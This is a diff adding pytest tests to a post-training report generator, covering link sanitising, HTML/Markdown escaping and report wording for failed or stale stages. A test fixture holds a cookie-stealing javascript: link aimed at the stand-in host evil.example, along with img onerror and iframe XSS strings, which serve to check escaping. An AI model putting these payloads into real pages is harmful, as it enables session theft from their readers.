@@ -12,12 +12,12 @@ from pathlib import Path
 
 import pytest
 
-from posttrain.report import accuracy_line, build_comparison, build_report, stage_metrics
-from posttrain.report.blocks import Cell, Table
-from posttrain.report.compare import comparison_rows
+from posttrain.report import accuracy_line, build_comparison, build_report, inputs, sections, stage_metrics
+from posttrain.report.blocks import Cell, Para, Table
+from posttrain.report.compare import comparison, comparison_rows, variant_summaries
 from posttrain.report.load import error_cause, load_run
 from posttrain.report.plots import assign_panels
-from posttrain.report.render import inline_md, to_markdown
+from posttrain.report.render import inline_html, inline_md, to_html, to_markdown
 
 ASSETS = Path(__file__).parent / "assets" / "runs"
 TINY = Path(__file__).resolve().parent.parent / "recipes" / "tiny" / "text.yaml"
@@ -228,6 +228,156 @@ def test_markdown_escapes_model_output():
     assert inline_md("`<b>` and **x**") == "`<b>` and **x**"
     md = to_markdown([Table(["a"], [[Cell("x | y\n*z*", literal=True)]])], "files")
     assert "x \\| y<br>\\*z\\*" in md
+
+
+# ---------------------------------------------------------------------------------------- text it did not write
+PAYLOAD = "[see the docs](javascript:location='//evil.example/?'+document.cookie)"
+
+
+def md_link_targets(markdown: str) -> list[str]:
+    """Where the Markdown's links point (`[text](url)` whose `[` is not escaped)."""
+    return re.findall(r"(?<!\\)\[[^\]]*\]\(\s*([^)\s]*)", markdown)
+
+
+def edit_json(path: Path, change) -> None:
+    data = json.loads(path.read_text())
+    change(data)
+    path.write_text(json.dumps(data))
+
+
+def set_eval(run: Path, stage: str, **values) -> None:
+    edit_json(run / stage / "metrics.json", lambda m: m["eval"].update(values))
+
+
+def test_links_only_to_the_web_or_beside_the_report():
+    for url in ("javascript:alert(1)", "JavaScript:x", "data:text/html,x", "//evil.example", "\x01javascript:x",
+                "/\\evil.example", "vbscript:x"):
+        assert "<a " not in inline_html(f"[x]({url})") and not md_link_targets(inline_md(f"[x]({url})"))
+    for url in ("https://huggingface.co/x", "http://a.b", "#evaluation", "data/verifiable/README.md"):
+        assert inline_html(f"[x]({url})") == f'<a href="{url}">x</a>' and inline_md(f"[x]({url})") == f"[x]({url})"
+    assert inline_html(PAYLOAD) == "[see the docs](javascript:location=&#x27;//evil.example/?&#x27;+document.cookie)"
+    # Markdown links `[x]( javascript:…)` (a space), which the marks do not: `[` is escaped outside links
+    assert md_link_targets("[x]( javascript:alert(1))") and not md_link_targets(inline_md("[x]( javascript:alert(1))"))
+
+
+def test_markdown_escapes_html_inside_bold_and_link_text():
+    md = inline_md("row **<img src=x onerror=alert(1)>** and [<iframe src=//evil>](x)")
+    assert md == "row **&lt;img src=x onerror=alert(1)&gt;** and [&lt;iframe src=//evil&gt;](x)"
+
+
+def test_error_text_recipe_strings_and_data_cards_are_not_markup(tmp_path):
+    run = copy_runs(tmp_path) / "tiny-full"
+    resolved = run / "upo" / "resolved.yaml"
+    resolved.write_text(resolved.read_text() + f'system_prompt: "{PAYLOAD} **loud**"\n')
+    edit_json(run / "data" / "verifiable" / "card.json", lambda c: c["sources"][0].update(license=PAYLOAD))
+    edit_json(run / "run.json", lambda s: s["steps"]["upo"].update(status="failed", error="see log"))
+    (run / ".upo.partial").mkdir()
+    (run / ".upo.partial" / "upo.log").write_text(f"ValueError: bad row **{PAYLOAD}**\n")
+    view = load_run(run)
+    blocks = sections.summary(view) + inputs.lineage(view) + inputs.data_cards(view)
+    html, md = to_html(blocks, "t"), to_markdown(blocks, "files")
+    assert "javascript:" in html and "href=\"javascript" not in html
+    assert not [url for url in md_link_targets(md) if "javascript" in url]
+    callout = next(b.text for b in blocks if isinstance(b, Para) and b.text.startswith("**Stage upo failed:**"))
+    assert f"ValueError: bad row **{PAYLOAD}**" in unescape(inline_html(callout))  # as logged
+    assert "<strong>loud</strong>" not in html and "**loud**" in unescape(html)
+
+
+# --------------------------------------------------------------------------------------- what it must not claim
+def test_failed_rerun_shows_the_earlier_attempts_numbers_as_such(tmp_path):
+    """The pipeline keeps dpo/ until a new attempt succeeds: after a failed re-run its metrics are the old ones."""
+    run = copy_runs(tmp_path) / "tiny-full"
+    edit_json(run / "run.json", lambda s: s["steps"]["dpo"].update(status="failed", error="RuntimeError: oom"))
+    (run / ".dpo.partial").mkdir()
+    (run / ".dpo.partial" / "dpo.log").write_text("RuntimeError: CUDA out of memory (the new attempt)\n")
+    assert accuracy_line(run) == ("base 0.0% (±16) → sft 0.0% (±16) → dpo 0.0% (±16) (failed; from an earlier "
+                                  "attempt) → upo 37.5% (±28)")
+    view = load_run(run)
+    md = to_markdown(sections.summary(view) + [sections.eval_table(view)], "files")
+    assert "Full log: `.dpo.partial/dpo.log`. The numbers shown for it are from an earlier attempt." in md
+    assert "RuntimeError: CUDA out of memory (the new attempt)" in md
+    assert "| dpo (failed; numbers from an earlier attempt) |" in md and "change base → upo" in md
+    # a failed re-evaluation: run.json records its log, by the path on the machine that ran it
+    edit_json(run / "run.json", lambda s: s["steps"]["upo"].update(
+        status="failed", error="RuntimeError: oom", log="/elsewhere/outputs/tiny-full/upo/upo.eval.log"))
+    (run / "upo" / "upo.eval.log").write_text("RuntimeError: out of memory\n")
+    assert load_run(run).stage("upo").log_path == run / "upo" / "upo.eval.log"
+    assert "change base → sft" in to_markdown([sections.eval_table(load_run(run))], "files")
+
+
+def test_change_runs_to_the_last_stage_that_is_not_stale(tmp_path):
+    run = copy_runs(tmp_path) / "tiny-full"
+    edit_json(run / "dpo" / "lineage.json", lambda lin: lin.update(previous_inputs_hash="sft-before"))
+    edit_json(run / "upo" / "metrics.json", lambda m: m.update(promotion={"against": "dpo", "comparison": None,
+                                                                          "gate": None}))
+    view = load_run(run)
+    md = to_markdown([sections.eval_table(view), *sections.promotions(view)], "files")
+    assert "change base → sft" in md and md_row(md, "accuracy (verifier)")[4] == "+0.0 pts"
+    assert md_row(md, "**upo** (stale: from before its previous stage was trained again)")[0] == "dpo"
+
+
+def test_accuracies_on_different_prompts_are_not_subtracted(tmp_path):
+    runs = copy_runs(tmp_path)
+    set_eval(runs / "tiny-full", "upo", n=50, prompts_sha="other")
+    view = load_run(runs / "tiny-full")
+    md = to_markdown(sections.evaluation(view)[:3], "files")
+    assert "Held-out prompts, not the same for every stage" in md and "The same held-out prompts" not in md
+    assert md_row(md, "accuracy (verifier)")[4] == "different prompts"
+    md = to_markdown(comparison([runs / "tiny-full", runs / "tiny-full-lambda0"]), "files")
+    assert md_row(md, "**tiny-full**")[3] == "different prompts"
+    assert md_row(md, "**tiny-full-lambda0**")[3] == "+12.5 pts"
+
+
+def test_seeds_are_read_at_one_stage(tmp_path):
+    """Seed 1 of variant b was stopped by its dpo gate: it has no upo, and its dpo is not averaged or paired with the
+    other seeds' upo."""
+    groups = {}
+    for variant, rights in {"a": [5, 6], "b": [9, 12]}.items():
+        groups[variant] = []
+        for seed, right in enumerate(rights):
+            root = tmp_path / f"{variant}-seed{seed}"
+            shutil.copytree(ASSETS / "tiny-full", root)
+            edit_json(root / "run.json", lambda s, name=root.name: s.update(name=name))
+            for stage in ("dpo", "upo"):
+                set_eval(root, stage, n=20, accuracy=right / 20, verdicts=[1] * right + [0] * (20 - right),
+                         prompts_sha="same")
+            groups[variant].append(root)
+    stopped = groups["b"][1]
+    shutil.rmtree(stopped / "upo")
+    edit_json(stopped / "run.json", lambda s: (s["steps"].pop("upo"), s["steps"]["run"].update(status="stopped",
+                                                                                                 stopped_by="dpo")))
+    b = variant_summaries(groups, "a")[1]
+    assert b["accuracies"] == [0.45] and b["differences"] == [pytest.approx(0.2)]
+    assert b["missing"] == ["b-seed1: stopped by the dpo promote gate"]
+    row = comparison_rows([stopped])[0]
+    assert (row["stage"], row["accuracy"], row["where"]) == ("upo", None, "stopped by the dpo promote gate")
+
+
+def test_samples_are_rows_by_position_not_by_prompt_text(tmp_path):
+    """Vision: the same question about other images is another prompt."""
+    run = copy_runs(tmp_path) / "tiny-full"
+    answers = ["red", "blue", "green", "red"]
+    for stage in STAGES:
+        set_eval(run, stage, samples=[{"prompt": "What color is the shape?", "thinking": False, "answer": a,
+                                       "completion": "red", "correct": a == "red"} for a in answers])
+    md = to_markdown(sections.samples(load_run(run)), "files")
+    assert "### Thinking off (4 prompts)" in md
+    assert md_row(md, "**correct on these prompts**")[1:] == ["2 / 4"] * 4
+
+
+def test_run_error_outside_a_stage_is_shown(tmp_path):
+    run = tmp_path / "run"
+    run.mkdir()
+    error = "data job build_verifiable_tasks: FileNotFoundError: data_prep/sources/units.jsonl"
+    (run / "run.json").write_text(json.dumps({"name": "run", "order": ["base", "sft"], "steps": {
+        "run": {"status": "failed", "error": error}}}))
+    failed = [b for b in sections.summary(load_run(run)) if isinstance(b, Para) and b.kind == "failed"]
+    assert to_markdown(failed, "files") == f"> **Run failed:** {error}  \n> Not run because of it: base, sft.\n"
+    # a stage's failure says why itself: run.json's "step 'dpo' failed" is not repeated
+    run = copy_runs(tmp_path) / "tiny-failed"
+    edit_json(run / "run.json", lambda s: s["steps"]["run"].update(error="step 'dpo' failed"))
+    failed = [b.text for b in sections.summary(load_run(run)) if isinstance(b, Para) and b.kind == "failed"]
+    assert len(failed) == 1 and failed[0].startswith("**Stage dpo failed:**")
 
 
 # ------------------------------------------------------------------------------------------------ browser, slow
